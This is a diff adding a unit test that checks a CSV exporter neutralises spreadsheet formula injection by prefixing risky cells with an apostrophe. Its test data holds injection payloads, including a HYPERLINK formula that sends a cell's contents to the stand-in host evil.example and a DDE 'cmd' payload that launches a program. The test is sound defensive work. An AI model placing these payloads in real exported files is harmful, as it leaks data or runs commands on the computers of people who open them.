@@ -40,4 +40,25 @@ describe('CSV for spreadsheets', () => {
   it('writes English files with commas and decimal points', () => {
     expect(csvText('en', 'note', ['a', 'b'], [[1.5, 'x,y']])).toBe('\uFEFFnote\r\na,b\r\n1.5,"x,y"\r\n');
   });
+
+  it('neutralises texts a spreadsheet would run as formulas, keeps numbers as numbers', () => {
+    const rows = readAsGermanSpreadsheet(
+      csvText('de', '=cmd|note', ['Name', 'Wert'], [
+        ['=HYPERLINK("http://evil.example/?"&A1;"Klick")', -2.5],
+        ['+SUM(1;2)', 3],
+        ['-2+3+cmd|\' /C calc\'!A0', null],
+        ['@SUM(1)', null],
+        ['\t=1+1', null],
+        ['\r=1+1', null],
+        ['Kita Borsigplatz - Nord', 0],
+        ['< 5', null],
+      ]),
+    );
+    expect(rows[0]).toEqual(["'=cmd|note"]);
+    expect(rows[2]).toEqual(['\'=HYPERLINK("http://evil.example/?"&A1;"Klick")', -2.5]);
+    expect(rows.slice(3, 8).map((r) => String(r[0])[0])).toEqual(["'", "'", "'", "'", "'"]);
+    expect(rows[3][1]).toBe(3);
+    expect(rows[8]).toEqual(['Kita Borsigplatz - Nord', 0]);
+    expect(rows[9][0]).toBe('< 5');
+  });
 });
